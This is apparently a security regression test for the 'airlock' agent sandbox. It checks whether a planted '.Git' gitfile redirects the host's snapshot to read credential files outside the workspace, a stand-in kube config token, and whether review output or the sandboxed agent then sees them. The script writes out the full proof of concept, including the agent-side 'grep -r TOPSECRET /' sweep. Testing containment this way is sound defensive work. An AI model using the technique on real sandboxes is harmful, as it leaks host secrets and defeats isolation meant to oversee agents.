#!/bin/bash
# Clone mode, repository top with an untracked FILE named ".Git" (git on a
# case-sensitive disk lists it as untracked; wsclone copies it) holding
# "gitdir: <host dir>". Its ".Git" name sends CopyBaseline to the snapshot
# script run on the HOST (nestedGit), whose nested-repository scan follows
# the gitdir line to any absolute path and reads config, HEAD, hooks/*, ...
# there (stand-in: a ~/.kube-like folder with a "config"). Does the host
# read that file into the sandbox's review state, and does review print it?
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
. "$(dirname "$0")/../lib.sh"
mkdir -p $T/kube/hooks && printf 'apiVersion: v1\ntoken: TOPSECRET-%s-kubetoken\n' $$ > $T/kube/config && echo "TOPSECRET-$$-hook" > $T/kube/hooks/notes
git init -q $T/repo && cd $T/repo && echo hi > README && write_sandbox clone && git add -A && git commit -qm init || exit 2
printf 'gitdir: %s\n' "$T/kube" > .Git      # left uncommitted (git refuses to add it anyway)
U=; for i in 1 2 3; do airlock up --yes >"$T/up.log" 2>&1 && { U=1; break; }; sleep 1; done; [ -n "$U" ] || { cat $T/up.log; exit 2; }
st=$AIRLOCK_HOME/sandboxes/$N/review/meta-base.json
python3 - "$st" <<'PY' >$T/meta.txt 2>&1
import json,sys,base64
for k,v in (json.load(open(sys.argv[1])) or {}).items():
    d=base64.b64decode(v.get("data") or "").decode("latin1")
    if "TOPSECRET" in d: print(k, "=", d.strip().replace("\n"," | "))
PY
if grep -q "TOPSECRET-$$" $T/meta.txt; then echo "host files outside the workspace read into the review state:"; cat $T/meta.txt; R=1; fi
# ---- the agent changes the gitfile, then the user reviews ----
airlock exec $N -- sh -c 'cd /workspace && echo "gitdir: /nowhere" > .Git' >/dev/null 2>&1
airlock review $N >$T/review.txt 2>&1; echo "review exit=$?"; head -n 30 $T/review.txt
airlock diff $N .Git/config >$T/diff.txt 2>&1; grep -q "TOPSECRET-$$" $T/diff.txt && { echo "airlock diff prints the host file:"; grep TOPSECRET $T/diff.txt; }
airlock exec $N -- sh -c 'grep -r TOPSECRET / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -3' > $T/agent.out 2>&1
grep -q "TOPSECRET-$$" $T/agent.out && { echo "agent sees it:"; cat $T/agent.out; R=1; }
finish
